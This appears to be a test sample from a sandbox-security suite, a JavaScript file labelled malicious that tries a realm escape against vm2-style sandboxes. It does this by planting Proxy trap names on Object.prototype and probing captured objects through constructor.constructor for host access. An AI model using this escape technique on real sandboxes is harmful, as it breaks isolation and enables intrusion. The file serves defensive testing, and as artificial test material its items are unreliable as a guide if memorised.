/*---
id: re-object-proto-trap-02-all-traps
description: "Installs every Proxy trap name on Object.prototype through a computed loop (apply, construct, ownKeys, getPrototypeOf and the rest), then exercises the injected API and inspects every argument the traps receive."
kind: malicious
category: realm-escape
technique: RE-object-proto-trap
variant: obfuscated
references:
  - "vm2 ATTACKS cat. 14"
  - "CVE-2021-23449"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
const traps = ['get', 'set', 'has', 'apply', 'construct', 'ownKeys', 'getPrototypeOf', 'setPrototypeOf', 'defineProperty',
  'deleteProperty', 'getOwnPropertyDescriptor', 'isExtensible', 'preventExtensions'];
const got = [];
// Null-prototype descriptors: once get/set sit on Object.prototype, ordinary descriptor literals inherit them.
for (const t of traps) Object.defineProperty(Object.prototype, t, { __proto__: null, configurable: true, value(...args) { got.push(...args); return Reflect[t](...args); } });
try { console.log('x'); } catch (e) {}
try { if (typeof fetch === 'function') await fetch('https://a.example/').catch(() => {}); } catch (e) {}
for (const t of traps) delete Object.prototype[t];
for (const v of got) {
  if (v === null || (typeof v !== 'object' && typeof v !== 'function')) continue;
  try { if (v.constructor.constructor('return typeof process')() !== 'undefined') return 'ESCAPED'; } catch (e) {}
}
return 'held';
